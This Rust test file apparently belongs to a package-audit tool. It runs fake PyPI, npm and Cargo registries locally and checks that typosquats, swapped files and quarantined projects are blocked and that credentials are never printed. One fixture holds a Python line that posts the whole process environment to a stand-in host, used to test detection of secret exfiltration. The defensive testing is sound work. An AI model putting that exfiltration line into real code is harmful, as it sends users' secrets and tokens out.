//! Releases from registries that speak the real protocols on the loopback interface.

use foretaste_fake_registries::{
    FakeCargo, FakeFile, FakeNpm, FakeProject, FakePypi, Manners, tar_gz,
};
use serde_json::json;

use crate::support::{Home, fixture_files, rules, serving};

/// The typosquat of the scenario, as an sdist.
fn squat() -> Vec<u8> {
    let files = fixture_files("pypi/acme-corp-util-1.0.3");
    let packed: Vec<(String, &str)> = files
        .iter()
        .map(|(p, t)| (format!("acme-corp-util-1.0.3/{p}"), t.as_str()))
        .collect();
    tar_gz(
        &packed
            .iter()
            .map(|(p, t)| (p.as_str(), *t))
            .collect::<Vec<_>>(),
    )
}

#[test]
fn the_typosquat_of_an_internal_package_is_blocked_with_both_reasons() {
    serving(async || {
        let file =
            FakeFile::new("acme-corp-util-1.0.3.tar.gz", &squat()).uploaded("2026-10-31T18:00:00Z");
        let index = FakePypi::new()
            .project(FakeProject::new("acme-corp-util").file(file))
            .start()
            .await;
        let home = Home::new().with("PIP_INDEX_URL", &format!("{}/simple", index.url()));
        home.write(
            "foretaste.toml",
            "[names]\ninternal = [\"acme-corp-utils\"]\n",
        );
        let (report, code) = home.audit(&["pypi:acme-corp-util"]);
        let release = &report["releases"][0];
        assert_eq!(
            (release["verdict"].as_str(), code),
            (Some("block"), 1),
            "{release:#}"
        );
        let rules = rules(release);
        assert!(
            rules.contains(&"secrets-to-network") && rules.contains(&"internal-name-confusion"),
            "{rules:?}"
        );
        assert_eq!(release["artifacts"][0]["index_digest"], "match");
    });
}

#[test]
fn a_swapped_file_is_blocked() {
    serving(async || {
        let file = FakeFile::new(
            "x-1.0.tar.gz",
            &tar_gz(&[(
                "x-1.0/PKG-INFO",
                "Metadata-Version: 2.1\nName: x\nVersion: 1.0\n",
            )]),
        );
        let index = FakePypi::new()
            .project(FakeProject::new("x").file(file.sha256(&"0".repeat(64))))
            .start()
            .await;
        let home = Home::new().with("UV_DEFAULT_INDEX", &format!("{}/simple", index.url()));
        let (report, code) = home.audit(&["pypi:x"]);
        let release = &report["releases"][0];
        assert_eq!(code, 1);
        assert!(rules(release).contains(&"digest-mismatch"), "{release:#}");
        assert_eq!(release["artifacts"][0]["index_digest"], "mismatch");
    });
}

#[test]
fn npm_and_cargo_registries_are_those_of_their_clients() {
    serving(async || {
        let npm = FakeNpm::new()
            .version(
                "left-pad",
                "1.3.0",
                &json!({"description": "pads"}),
                &[
                    (
                        "package.json",
                        r#"{"name":"left-pad","version":"1.3.0","description":"pads"}"#,
                    ),
                    ("index.js", "module.exports = s => ' ' + s;\n"),
                ],
            )
            .start()
            .await;
        let cargo = FakeCargo::new()
            .version(
                "itoa",
                "1.0.0",
                &json!({}),
                &[
                    (
                        "Cargo.toml",
                        "[package]\nname = \"itoa\"\nversion = \"1.0.0\"\n",
                    ),
                    ("src/lib.rs", "pub fn f() {}\n"),
                ],
            )
            .start()
            .await;
        let home = Home::new();
        home.write(".npmrc", format!("registry={}\n", npm.url()));
        home.write(".cargo/config.toml", format!("[source.crates-io]\nreplace-with = \"mirror\"\n[source.mirror]\nregistry = \"sparse+{}/index/\"\n", cargo.url()));
        let (report, code) = home.audit(&["npm:left-pad", "crates:itoa@1.0.0"]);
        assert_eq!(code, 0, "{report:#}");
        let versions: Vec<_> = report["releases"]
            .as_array()
            .expect("a list")
            .iter()
            .map(|r| r["version"].as_str())
            .collect();
        assert_eq!(versions, [Some("1.3.0"), Some("1.0.0")]);
    });
}

#[test]
fn what_is_not_found_is_named_with_near_names_and_the_rest_goes_on() {
    serving(async || {
        let good = FakeFile::new(
            "six-1.0.tar.gz",
            &tar_gz(&[(
                "six-1.0/PKG-INFO",
                "Metadata-Version: 2.1\nName: six\nVersion: 1.0\nSummary: helpers\n",
            )]),
        );
        let index = FakePypi::new()
            .project(FakeProject::new("six").file(good))
            .start()
            .await;
        let home = Home::new().with("PIP_INDEX_URL", &format!("{}/simple", index.url()));
        let run = home.run(&["audit", "pypi:reqeusts", "pypi:six", "pypi:six@9.9"]);
        assert_eq!(run.code, 3, "{}{}", run.stdout, run.stderr);
        assert!(run.stdout.contains("requests"), "{}", run.stdout);
        assert!(run.stdout.contains("has no version 9.9"), "{}", run.stdout);
    });
}

#[test]
fn credentials_are_asked_for_and_never_shown() {
    serving(async || {
        let file = FakeFile::new(
            "x-1.0.tar.gz",
            &tar_gz(&[(
                "x-1.0/PKG-INFO",
                "Metadata-Version: 2.1\nName: x\nVersion: 1.0\n",
            )]),
        );
        let index = FakePypi::new()
            .project(FakeProject::new("x").file(file))
            .manners(Manners::default().basic("user", "hunter2"))
            .start()
            .await;
        let url = index.url();
        let bare = Home::new().with("PIP_INDEX_URL", &format!("{url}/simple"));
        let refused = bare.run(&["audit", "pypi:x"]);
        assert_eq!(refused.code, 3);
        assert!(refused.stdout.contains("credentials"), "{}", refused.stdout);
        let authority = url.trim_start_matches("http://");
        let known = Home::new().with(
            "PIP_INDEX_URL",
            &format!("http://user:hunter2@{authority}/simple"),
        );
        let run = known.run(&["audit", "-vv", "pypi:x"]);
        assert_ne!(run.code, 3, "{}{}", run.stdout, run.stderr);
        assert!(!run.stdout.contains("hunter2") && !run.stderr.contains("hunter2"));
    });
}

#[test]
fn a_second_audit_parses_nothing_and_needs_no_network() {
    serving(async || {
        let file = FakeFile::new("acme-corp-util-1.0.3.tar.gz", &squat());
        let index = FakePypi::new()
            .project(FakeProject::new("acme-corp-util").file(file))
            .start()
            .await;
        let home = Home::new().with("PIP_INDEX_URL", &format!("{}/simple", index.url()));
        let first = home.run(&["audit", "--stats", "pypi:acme-corp-util"]);
        assert!(first.stderr.contains("3 observed"), "{}", first.stderr);
        drop(index);
        let second = home.run(&["--offline", "audit", "--stats", "pypi:acme-corp-util"]);
        assert_eq!(second.code, 1, "{}{}", second.stdout, second.stderr);
        assert!(second.stderr.contains("0 observed"), "{}", second.stderr);
    });
}

#[test]
fn what_was_tasted_is_judged_again_without_its_bytes() {
    serving(async || {
        let file = |version: &str, time: &str, code: &str| {
            let (manifest, module) = (format!("x-{version}/PKG-INFO"), format!("x-{version}/x.py"));
            let text = format!("Metadata-Version: 2.1\nName: x\nVersion: {version}\n");
            let packed = tar_gz(&[(&manifest, text.as_str()), (&module, code)]);
            FakeFile::new(&format!("x-{version}.tar.gz"), &packed).uploaded(time)
        };
        let sends =
            "import os, requests\nrequests.post('https://c.example.invalid/', data=os.environ)\n";
        let project = FakeProject::new("x")
            .file(file("1.0", "2026-01-01T00:00:00Z", "print('hello')\n"))
            .file(file("1.1", "2026-06-01T00:00:00Z", sends));
        let python = FakePypi::new().project(project).start().await;
        let module = [("index.js", "console.log(process.env.HOME)\n")];
        let node = FakeNpm::new()
            .version("y", "1.0.0", &json!({}), &module)
            .start()
            .await;
        let home = Home::new()
            .with("PIP_INDEX_URL", &format!("{}/simple", python.url()))
            .with("npm_config_registry", &node.url());
        let targets = ["--offline", "pypi:x", "npm:y"];
        let (first, _) = home.audit(&targets[1..]);
        assert_eq!(first["releases"][0]["compared_with"], "1.0");
        drop((python, node));
        let (with_bytes, _) = home.audit(&targets);
        std::fs::remove_dir_all(home.path().join("cache/http/artifacts")).expect("was filled");
        let (without, _) = home.audit(&targets);
        assert_eq!(with_bytes, without);
        let findings = |report: &serde_json::Value| report["releases"][0]["findings"].clone();
        assert_eq!(findings(&first), findings(&without));
        let digest = &without["releases"][1]["artifacts"][0]["index_digest"];
        assert_eq!(digest, "match", "{without:#}");
        // without facts, the bytes are asked for again
        let run = home.run(&["audit", "--no-cache", "--offline", "pypi:x"]);
        assert_eq!(run.code, 3, "{}", run.stdout);
    });
}

#[test]
fn an_unreachable_index_is_no_accusation_and_no_pass() {
    let home = Home::new().with("PIP_INDEX_URL", "http://127.0.0.1:9/simple");
    home.write("foretaste.toml", "[network]\nretries = 0\n");
    let (report, code) = home.audit(&["pypi:x"]);
    assert_eq!(
        (report["releases"][0]["verdict"].as_str(), code),
        (Some("incomplete"), 3)
    );
}

#[test]
fn a_project_in_quarantine_is_blocked_though_no_file_is_left() {
    serving(async || {
        let index = FakePypi::new()
            .project(FakeProject::new("bad").status("quarantined", "malware"))
            .start()
            .await;
        let home = Home::new().with("PIP_INDEX_URL", &format!("{}/simple", index.url()));
        let (report, code) = home.audit(&["pypi:bad"]);
        let release = &report["releases"][0];
        assert_eq!(
            (release["verdict"].as_str(), code),
            (Some("block"), 1),
            "{release:#}"
        );
        assert!(rules(release).contains(&"quarantined-project"));
    });
}
